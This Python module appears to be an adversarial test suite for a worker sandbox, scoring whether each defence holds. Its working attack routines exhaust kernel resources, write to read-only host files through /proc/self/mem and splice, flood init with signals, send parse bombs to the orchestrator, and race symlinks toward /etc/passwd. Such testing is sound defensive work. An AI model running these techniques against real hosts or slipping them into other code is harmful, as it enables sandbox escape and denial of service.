"""Attacks by whoever read the source: on quotas, on init, on shared pages, on the node's time and memory."""

from __future__ import annotations

import os
import time
from typing import TYPE_CHECKING, Any

from ..table import Row
from ..tools import Facts, Verdict, attempt, in_child, opened, summary, verdict

if TYPE_CHECKING:
    from ..arena import Arena

MIB = 1024 * 1024
# A list of two bytes is more than a hundred to who parses it.
BOMB_VALUES = 2_500_000
MAX_GROWTH_MIB = 160
MAX_REFUSALS = 32 + 8  # at once, and one a second while the attack lasts: attempts.py
FLOOD_SECONDS = 3.0


def take_what_is_counted_for_the_host(facts: Facts) -> Verdict:
    """Use up what the kernel counts for the host's own user, or for nobody: watches, signals, huge pages."""
    import ctypes
    import errno

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p

    def count(make: Any, most: int) -> str:
        made = 0
        while made < most and make() >= 0:
            made += 1
        return f"{made} then {errno.errorcode.get(ctypes.get_errno(), 'no error')}" if made < most else "all"

    def timer() -> int:
        event = (ctypes.c_int * 16)(0, 0, 40, 0)  # sigev_value, sigev_signo, SIGEV_SIGNAL
        return int(libc.timer_create(1, event, ctypes.byref(ctypes.c_void_p())))

    def huge() -> str:
        ctypes.set_errno(0)
        # MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, never touched.
        if libc.mmap(None, 2 * MIB, 3, 0x22 | 0x40000, -1, 0) == ctypes.c_void_p(-1).value:
            return errno.errorcode[ctypes.get_errno()]
        return "ok"

    watches = count(lambda: int(libc.inotify_init1(0)), 16)
    timers = count(timer, 256)
    tries = {
        "huge pages": huge(),
        "huge pages by descriptor": attempt(os.memfd_create, "huge", 4),
        "a queue": attempt(_open_queue, libc),
    }
    held = (
        watches in ("0 then EMFILE", "0 then ENOSYS")
        and timers.startswith(("6", "5", "4", "3", "2", "1", "0"))
        and set(tries.values()) <= {"EPERM", "EMFILE", "ENOSYS"}
    )
    return verdict(held, f"inotify instances: {watches}; timers: {timers}; {summary(tries)}")


def _open_queue(libc: Any) -> None:
    import ctypes

    if libc.mq_open(b"/escape", os.O_CREAT | os.O_RDWR, 0o600, None) < 0:
        raise OSError(ctypes.get_errno(), "mq_open")


def write_by_memory(facts: Facts) -> Verdict:
    """Write to a file of the host that one may only read, by memory that is shared with it."""
    import ctypes
    import mmap

    path = f"{facts['special_files']}/scratch"
    descriptor = os.open(path, os.O_RDONLY)
    size = os.fstat(descriptor).st_size
    with open(path, "rb") as file:
        before = file.read()
    tries = {"open": opened(path, os.O_RDWR)}

    def shared() -> None:
        mmap.mmap(descriptor, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE).close()

    def own_memory() -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        address = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_SHARED, descriptor, 0)
        # The kernel's own way around protections, for debuggers.
        memory = os.open("/proc/self/mem", os.O_RDWR)
        os.pwrite(memory, b"X", address)

    def other_end() -> None:
        os.write(os.open(f"/proc/self/fd/{descriptor}", os.O_WRONLY), b"X")

    def splice() -> None:
        read_end, write_end = os.pipe()
        os.write(write_end, b"X")
        os.splice(read_end, descriptor, 1)

    def cut() -> None:
        os.truncate(path, 0)

    for name, way in (
        ("shared mapping", shared),
        ("/proc/self/mem", own_memory),
        ("/proc/self/fd", other_end),
        ("splice", splice),
        ("truncate", cut),
        ("times", lambda: os.utime(path)),
        ("mode", lambda: os.chmod(path, 0o777)),
        # Of a file of one's own it is one's right; see limits_of_it.
        *([("a lease", lambda: _lease(descriptor))] if os.stat(path).st_uid != os.getuid() else []),
    ):
        try:
            tries[name] = in_child(way)
        except PermissionError:
            tries[name] = "EACCES"
    with open(path, "rb") as file:
        same = file.read() == before
    return verdict(same and "ok" not in tries.values(), f"{'un' if same else ''}changed; {summary(tries)}")


def _lease(descriptor: int) -> None:
    import fcntl

    fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_RDLCK)


def signal_init(facts: Facts) -> Verdict:
    """Send one's init every signal there is, by every call, and real-time ones without end."""
    import signal

    with open("/proc/self/stat") as file:
        parent = int(file.read().rpartition(")")[2].split()[1])
    with open(f"/proc/{parent}/stat") as file:
        init = int(file.read().rpartition(")")[2].split()[1])
    descriptor = os.pidfd_open(init)
    tries = {}
    for number in sorted(signal.valid_signals() - {signal.SIGCHLD}):
        for name, send in (
            ("kill", lambda number: os.kill(init, number)),
            ("pidfd", lambda number: signal.pidfd_send_signal(descriptor, number)),
        ):
            tries[f"{name} {int(number)}"] = attempt(send, number)
    for _ in range(2_000):
        attempt(os.kill, init, signal.SIGRTMIN + 3)
        attempt(os.kill, init, signal.SIGCHLD)
    return verdict(True, summary(tries)) | {"init": init}


def stop_ones_init(arena: Arena, words: tuple[str, ...]) -> Verdict:
    """End or stop one's init by signals, so that nobody beats, reaps or obeys any more."""
    import grpc

    worker = arena.launch(words)
    try:
        sent = arena.attack(worker, {"signal": signal_init}, {})["signal"]
        ran = arena.shell(worker, "echo alive")
        outcome = ran.outcome if ran.stdout == b"alive\n" else f"{ran.outcome} without a word"
    except (grpc.RpcError, AssertionError):
        return verdict(False, f"the worker ended: {arena.stack.end_reason(worker.worker_id)}")
    assert "error" not in sent, sent
    return verdict(outcome == "SUCCEEDED", f"its next task {outcome}; sent to {sent['init']}: {sent['seen']}")


def send_bombs(facts: Facts) -> Verdict:
    """Send the orchestrator words that are small to send and large to read, and half of some more."""
    import socket
    import struct

    def frame(text: bytes) -> bytes:
        return struct.pack(">II", 4 + len(text), len(text)) + text

    lists = b"[]," * facts["values"] + b"[]"
    with socket.socket(fileno=os.dup(3)) as control:
        control.settimeout(10)
        try:
            control.sendall(
                frame(b'{"type":"call","id":1,"method":"GetSelf","request":{"a":[' + lists + b"]}}")
            )
            answer = control.recv(64)
        except OSError as error:
            return verdict(True, type(error).__name__)
    return verdict(True, "answered" if answer else "hung up")


def wear_the_node_down(arena: Arena, words: tuple[str, ...]) -> Verdict:
    """Make the node slow and large by what is said on the control streams of several tasks."""
    import contextlib

    import grpc

    worker = arena.launch(words, network={"allow_controller": True})
    pid = arena.stack.processes["orchestrator"].pid
    before = _from_now(pid)
    seconds = []
    for _ in range(3):
        with contextlib.suppress(grpc.RpcError, AssertionError):
            # The task is ended for what it says; its verdict goes with it.
            arena.attack(worker, {"bomb": send_bombs}, {"values": BOMB_VALUES})
        start = time.monotonic()
        arena.sandbox(worker)
        seconds.append(time.monotonic() - start)
    growth = _memory_mib(pid) - before
    return verdict(
        growth < MAX_GROWTH_MIB,
        f"the orchestrator grew by {growth} MiB; answers took {max(seconds):.2f} s at most",
    )


BY_THE_DOOR = """
import os, grpc
from hayflick.v1 import resources_pb2, worker_pb2
def field(message, name, data):
    number, size, out = message.DESCRIPTOR.fields_by_name[name].number << 3 | 2, len(data), b""
    while size > 127:
        out, size = out + bytes([size & 127 | 128]), size >> 7
    return bytes([number & 127 | 128, number >> 7] if number > 127 else [number]) + out + bytes([size]) + data
hosts = field(resources_pb2.NetworkPolicy, "allowed_hosts", b"") * VALUES
network = field(resources_pb2.Resources, "network", hosts)
body = field(worker_pb2.ReplicateRequest, "request_id", b"escape")
body += field(worker_pb2.ReplicateRequest, "resources", network)
channel = grpc.insecure_channel(os.environ["HAYFLICK_WORKER"])
try:
    channel.unary_unary("/hayflick.v1.WorkerService/Replicate")(body, timeout=30)
except grpc.RpcError as error:
    print(error.code().name, error.details()[:80])
"""


def wear_the_node_down_by_the_door(arena: Arena, words: tuple[str, ...]) -> Verdict:
    """Make the node slow and large by one request over gRPC that holds a million empty strings."""
    worker = arena.launch(words, memory_limit_bytes=256 * MIB, network={"allow_controller": True})
    pid = arena.stack.processes["orchestrator"].pid
    before = _from_now(pid)
    code = BY_THE_DOOR.replace("VALUES", str(BOMB_VALUES))
    ran = arena.shell(worker, f"python3 -I -c '{code}'")
    growth = _memory_mib(pid) - before
    said = ran.stdout.decode().strip()
    assert said, ran
    return verdict(growth < MAX_GROWTH_MIB, f"the orchestrator grew by {growth} MiB; {said}")


def _from_now(pid: int) -> int:
    """Begin to look for the most memory anew, and return what a process has."""
    with open(f"/proc/{pid}/clear_refs", "w") as file:
        file.write("5")  # proc_pid_clear_refs(5)
    return _memory_mib(pid)


def _memory_mib(pid: int) -> int:
    """Return the most memory that a process has had since :func:`_from_now`."""
    with open(f"/proc/{pid}/status") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("VmHWM:")) // 1024


def ask_for_children(facts: Facts) -> Verdict:
    """Ask for children that the contract refuses, as fast as one is answered."""
    import socket

    from hayflick_sandbox import frames

    end, asked = time.monotonic() + facts["seconds"], 0
    with socket.socket(fileno=os.dup(3)) as control:
        control.settimeout(facts["seconds"])
        try:
            while time.monotonic() < end:
                asked += 1
                request = {"request_id": f"escape-{asked}"}
                frames.write_frame(
                    control, {"type": "call", "id": asked, "method": "Replicate", "request": request}
                )
                frames.read_frame(control)
        except TimeoutError:
            pass
    return verdict(True, f"asked {asked} times")


def flood_the_record_with_refusals(arena: Arena, words: tuple[str, ...]) -> Verdict:
    """Have the record filled by births that are refused."""
    contract = arena.stack.contract(max_replicas=1)
    worker = arena.launch(words, contract_id=contract, network={"allow_controller": True})
    asked = arena.attack(worker, {"ask": ask_for_children}, {"seconds": FLOOD_SECONDS})["ask"]
    assert "error" not in asked, asked

    def refusal(one: dict[str, Any]) -> bool:
        return one.get("contract_id") == contract and one["details"].get("decision") == "deny_quota"

    arena.stack.stop(worker)
    entries = arena.log_with(
        lambda one: one["event"] == "worker_shutdown" and one.get("worker_id") == worker.worker_id
    )
    recorded = sum(map(refusal, entries))
    return verdict(0 < recorded <= MAX_REFUSALS, f"{asked['seen']}, {recorded} refusals on record")


def swap_for_ever(path: str) -> Any:
    """Return a task that has *path* be a file and a link to the host's passwords by turns."""

    def task(me: Any) -> None:
        import os

        os.makedirs("/workspace/real", exist_ok=True)
        for name, text in (("a", "mine"), ("real/passwd", "mine")):
            with open(f"/workspace/{name}", "w") as file:
                file.write(text)
        os.symlink("/etc/passwd", "/workspace/b")
        os.symlink("/etc", "/workspace/dir")
        print("swapping", flush=True)
        libc = __import__("ctypes").CDLL(None)
        while True:
            # RENAME_EXCHANGE: there is always one of the two at the name.
            libc.renameat2(-100, b"/workspace/a", -100, b"/workspace/b", 2)
            libc.renameat2(-100, b"/workspace/real", -100, b"/workspace/dir", 2)

    return task


def swap_while_it_is_read(arena: Arena, words: tuple[str, ...]) -> Verdict:
    """Exchange a file, and a directory, with a link while they are collected."""
    import grpc

    from ...integration.conftest import reason_of

    worker = arena.launch(words)
    arena.begin(worker, swap_for_ever("/workspace/a"))
    answers: dict[str, int] = {}
    for number in range(120):
        path = ("a", "real/passwd")[number % 2]
        try:
            data = arena.get(worker, path)
            answer = "its own" if data == b"mine" else "ANOTHER FILE"
        except grpc.RpcError as error:
            answer = reason_of(error)
        answers[answer] = answers.get(answer, 0) + 1
    held = set(answers) <= {"its own", "FILE_REFUSED", "FILE_UNKNOWN", "INVALID_FIELD"}
    return verdict(held, ", ".join(f"{count} of {answer}" for answer, count in sorted(answers.items())))


ROWS = [
    Row(
        71,
        take_what_is_counted_for_the_host,
        ("user.max_inotify_instances", "rlimits", "seccomp"),
        ("nested-userns", "no-rlimits", "no-seccomp"),
        hole=r"inotify instances: all; timers: all; .*ENOMEM: huge pages",
        limits_of_it="weakened, the reserve of huge pages is empty on most hosts, and the kernel says so",
    ),
    Row(
        72,
        stop_ones_init,
        ("pid namespace",),
        ("host-pids",),
        where="outside",
        hole="the worker ended",
    ),
    Row(
        73,
        write_by_memory,
        ("read-only mounts", "id-mapped mounts", "Landlock"),
        ("canary-readable", "canary-writable", "no-landlock"),
        faults=("canary-readable",),
        hole=r"^changed",
        limits_of_it="without subordinate ids a worker has its user's id, and leases on that user's files",
    ),
    Row(
        74,
        wear_the_node_down,
        ("limits of what is parsed",),
        ("parse-anything",),
        where="outside",
    ),
    Row(
        74,
        wear_the_node_down_by_the_door,
        ("limits of what is parsed",),
        ("parse-anything",),
        where="outside",
    ),
    Row(
        69,
        flood_the_record_with_refusals,
        ("rate limits of the node",),
        ("refuse-without-pause",),
        where="outside",
    ),
    Row(
        16,
        swap_while_it_is_read,
        ("openat2 beneath the workspace, without links",),
        ("follow-links",),
        where="outside",
        hole="ANOTHER FILE",
    ),
]
